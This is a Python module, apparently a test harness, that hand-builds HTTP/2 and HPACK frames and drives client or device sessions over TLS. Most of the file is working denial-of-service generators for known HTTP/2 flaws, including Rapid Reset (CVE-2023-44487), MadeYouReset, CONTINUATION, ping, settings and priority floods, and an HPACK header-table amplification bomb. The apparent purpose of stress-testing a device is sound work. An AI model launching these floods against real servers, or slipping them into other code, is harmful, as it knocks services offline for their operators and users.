"""HTTP/2 (RFC 9113, RFC 7541) written down by hand, frame by frame, so that each can be wrong: either end of a call's
session, and the floods that an end may send. Nothing in it keeps any rule by itself."""

import contextlib
import random
import select
import ssl
import struct
import time

from .false_device import (ACK, DATA, END_HEADERS, GOAWAY, HEADERS, PING, PREFACE, RST_STREAM, SETTINGS,
                           WINDOW_UPDATE, frame)

PRIORITY, PUSH_PROMISE, CONTINUATION = 2, 5, 9
INITIAL_WINDOW = 4
PIECE = 64 * 1024


def _integer(value, bits, first=0):
    if value < (1 << bits) - 1:
        return bytes([first | value])
    out, value = bytearray([first | ((1 << bits) - 1)]), value - ((1 << bits) - 1)
    while value >= 128:
        out.append(value % 128 | 128)
        value //= 128
    return bytes(out + bytes([value]))


def _string(text):
    text = text.encode() if isinstance(text, str) else text
    return _integer(len(text), 7) + text


def literal(name, value, index=False):
    """One header field, without Huffman; with `index` it goes into the peer's table."""
    return (b"\x40" if index else b"\0") + _string(name) + _string(value)


def connect_block(authority, *more, method="CONNECT"):
    return b"".join(literal(*field) for field in ((":method", method), (":authority", authority), *more))


def settings(*pairs):
    return frame(SETTINGS, 0, 0, b"".join(struct.pack("!HI", key, value) for key, value in pairs))


def window_update(stream, by):
    return frame(WINDOW_UPDATE, 0, stream, struct.pack("!I", by))


def headers(stream, block, flags=END_HEADERS):
    return frame(HEADERS, flags, stream, block)


def rst(stream, code=8):
    return frame(RST_STREAM, 0, stream, struct.pack("!I", code))


class Session:
    """One end of a session over a connected TLS socket: the caller's (client) or the device's."""

    def __init__(self, s, client=True, begun=b"", *pairs):
        self.socket = s
        s.setblocking(False)
        self.buffer = bytearray(begun)
        self.frames = []      # (kind, flags, stream, payload) that came and were not taken
        self.over = False
        self.why = None
        self.sent = 0
        self.next = 1
        self.client = client
        self.skip = 0 if client else len(PREFACE)
        self.send((PREFACE if client else b"") + settings(*pairs))

    # -- bytes -------------------------------------------------------------------------------------

    def _read(self):
        """What is there; False when nothing was."""
        try:
            piece = self.socket.recv(PIECE)
        except (ssl.SSLWantReadError, ssl.SSLWantWriteError):
            return False
        except OSError as e:
            self.over, self.why = True, e
            return False
        if not piece:
            self.over = True
            return False
        self.buffer += piece
        return True

    def _cut(self):
        if self.skip:
            if len(self.buffer) < self.skip:
                return
            del self.buffer[:self.skip]
            self.skip = 0
        pos = 0
        while len(self.buffer) - pos >= 9:
            length = int.from_bytes(self.buffer[pos:pos + 3], "big")
            if len(self.buffer) - pos < 9 + length:
                break
            kind, flags, stream = struct.unpack_from("!BBI", self.buffer, pos + 3)
            self.frames.append((kind, flags, stream & 0x7FFFFFFF, bytes(self.buffer[pos + 9:pos + 9 + length])))
            pos += 9 + length
        del self.buffer[:pos]

    def send(self, data, seconds=10.0, read=True):
        """All of it, or until the other end has had enough, or the time is up: how much got out."""
        view, end, out = memoryview(data), time.monotonic() + seconds, 0
        while out < len(view) and not self.over and time.monotonic() < end:
            try:
                out += self.socket.send(view[out:out + PIECE])
                continue
            except (ssl.SSLWantReadError, ssl.SSLWantWriteError):
                pass
            except OSError as e:
                self.over, self.why = True, e
                break
            if not (read and self._read()):
                select.select([self.socket] if read else [], [self.socket], [], 0.05)
        self.sent += out
        return out

    def flood(self, pieces, seconds, read=True):
        """Sends what `pieces` yields until the session is over or the time is; True if it is over."""
        end = time.monotonic() + seconds
        for piece in pieces:
            left = end - time.monotonic()
            if left <= 0 or self.over:
                break
            self.send(piece, left, read)
            if read:
                while self._read():
                    pass
                self.buffer.clear()  # nobody listens
        return self.over

    # -- frames ------------------------------------------------------------------------------------

    def take(self, seconds=10.0, polite=True):
        """The next frame; None when the session is over or the time is up. Polite: answers SETTINGS and PING."""
        end = time.monotonic() + seconds
        while True:
            if not self.frames:
                self._cut()
            if self.frames:
                got = self.frames.pop(0)
                if polite and not got[1] & ACK and got[0] in (SETTINGS, PING):
                    self.send(frame(got[0], ACK, 0, got[3] if got[0] == PING else b""))
                return got
            left = end - time.monotonic()
            if self.over or left <= 0:
                return None
            if not self._read():
                select.select([self.socket], [], [], min(left, 0.2))

    def wait(self, wanted, seconds=10.0):
        """The first frame for which wanted(kind, flags, stream, payload) is true; others are dropped."""
        end = time.monotonic() + seconds
        while (left := end - time.monotonic()) > 0:
            got = self.take(left)
            if got is None or wanted(*got):
                return got
        return None

    def ended(self, seconds):
        """Whether the other end closes the connection within that time. Says nothing meanwhile."""
        end = time.monotonic() + seconds
        while not self.over and time.monotonic() < end:
            if not self._read():
                select.select([self.socket], [], [], 0.1)
            self.buffer.clear()
        return self.over

    # -- a caller's streams ------------------------------------------------------------------------

    def open(self, block, flags=END_HEADERS, polite=True):
        """HEADERS on a stream of its own; its number."""
        stream, self.next = self.next, self.next + 2
        self.send(headers(stream, block, flags))
        return stream

    def status(self, stream, seconds=10.0):
        """200, 404, another (0), "reset", or None when nothing comes of it."""
        got = self.wait(lambda k, f, s, p: s == stream and k in (HEADERS, RST_STREAM) or k == GOAWAY, seconds)
        if got is None or got[0] == GOAWAY:
            return None
        if got[0] == RST_STREAM:
            return "reset"
        return {b"\x88": 200, b"\x8d": 404}.get(got[3][:1], 0)

    def connect(self, authority, seconds=10.0):
        stream = self.open(connect_block(authority))
        return stream, self.status(stream, seconds)

    def echoed(self, stream, data=b"still here", seconds=10.0):
        """Sends it through a stream to an echo service; True if it comes back, and nothing else."""
        self.send(frame(DATA, 0, stream, data))
        got, end = b"", time.monotonic() + seconds
        while len(got) < len(data) and (left := end - time.monotonic()) > 0:
            f = self.wait(lambda k, fl, s, p: k == DATA and s == stream or k == RST_STREAM and s == stream, left)
            if f is None or f[0] == RST_STREAM:
                return False
            got += f[3]
        return got == data

    def leave(self):
        """A caller's end, with a word: nobody waits for him to come back."""
        self.send(b"".join(rst(n) for n in range(1, self.next, 2)) + frame(GOAWAY, 0, 0, bytes(8)))
        with contextlib.suppress(OSError):  # what the other end says to it need not be heard
            self.socket.unwrap()
        self.close()

    def close(self):
        self.socket.close()

    def __enter__(self):
        return self

    def __exit__(self, *_):
        self.close()


# -- floods --------------------------------------------------------------------------------------------
#
# Each yields pieces of about PIECE bytes without end. A device's streams are the caller's: `stream` is one that is open.


def _many(make, count):
    while True:
        yield b"".join(make(i) for i in range(count))


def rapid_reset(session, authority="echo:1"):
    """CVE-2023-44487: streams opened and broken off at once."""
    block = connect_block(authority)
    while session.next < 1 << 30:
        piece = b""
        for _ in range(600):
            piece += headers(session.next, block) + rst(session.next)
            session.next += 2
        yield piece


def made_you_reset(session, authority="echo:1"):
    """CVE-2025-8671: the peer is brought to reset them itself."""
    block = connect_block(authority)
    while session.next < 1 << 30:
        piece = b""
        for _ in range(600):
            piece += headers(session.next, block) + window_update(session.next, 0)
            session.next += 2
        yield piece


def settings_flood(session, stream=0):
    """CVE-2019-9515."""
    return _many(lambda i: settings((INITIAL_WINDOW, 65535 + i % 2)), 3000)


def ping_flood(session, stream=0):
    """CVE-2019-9512."""
    return _many(lambda i: frame(PING, 0, 0, b"pingpong"), 3500)


def priority_flood(session, stream=1):
    """CVE-2019-9513."""
    return _many(lambda i: frame(PRIORITY, 0, 3 + 2 * (i % 500), struct.pack("!IB", 1 + 2 * (i % 499), i % 256)), 4000)


def empty_data(session, stream):
    """CVE-2019-9518."""
    return _many(lambda i: frame(DATA, 0, stream), 7000)


def window_crumbs(session, stream):
    """Windows opened byte by byte, of the session and of a stream."""
    return _many(lambda i: window_update(stream * (i % 2), 1), 5000)


def unknown_frames(session, stream=0):
    return _many(lambda i: frame(0x20 + i % 64, 0, 0), 7000)


def continuation_flood(session, stream=None):
    """CVE-2024-27316: a header list that never ends."""
    stream = stream or session.next
    yield headers(stream, connect_block("echo:1"), 0)
    crumb = literal("x-more", b"v" * 1000)
    yield from _many(lambda i: frame(CONTINUATION, 0, stream, crumb), 60)


def empty_continuations(session, stream=None):
    stream = stream or session.next
    yield headers(stream, connect_block("echo:1"), 0)
    yield from _many(lambda i: frame(CONTINUATION, 0, stream), 7000)


def header_bomb(session, stream=None):
    """A field of 4 KB put into the table once, then named by a byte each: 15 KB a frame that mean 60 MB."""
    first = connect_block("echo:1") + literal("x-bomb", b"b" * 3900, index=True)
    again = b"\xbe" * 15000
    while session.next < 1 << 30:
        n = stream or session.next
        session.next += 2
        yield headers(n, first + again)


def huge_frames(session, stream=0):
    """Frames as long as a frame can be, of a kind that is to be read whole."""
    head = b"\xff\xff\xff" + struct.pack("!BBI", HEADERS, END_HEADERS, 0x3FFFFFFF)
    return _many(lambda i: head + bytes(PIECE), 1)


def goaways(session, stream=0):
    return _many(lambda i: frame(GOAWAY, 0, 0, struct.pack("!II", 0, 0) + b"why not"), 2500)


def pushes(session, stream):
    return _many(lambda i: frame(PUSH_PROMISE, END_HEADERS, stream, struct.pack("!I", 2 + 2 * i) + connect_block("echo:1")), 1000)


def garbage(session, stream=0):
    rng = random.Random(7)
    while True:
        yield rng.randbytes(PIECE)


def frames_of_any_kind(session, stream):
    """Right in their length and nothing else."""
    rng = random.Random(9)
    while True:
        yield b"".join(frame(rng.randrange(12), rng.randrange(256), rng.choice((0, 1, 3, stream, rng.randrange(1 << 31))),
                             rng.randbytes(rng.choice((0, 4, 5, 8, 9, 100)))) for _ in range(800))
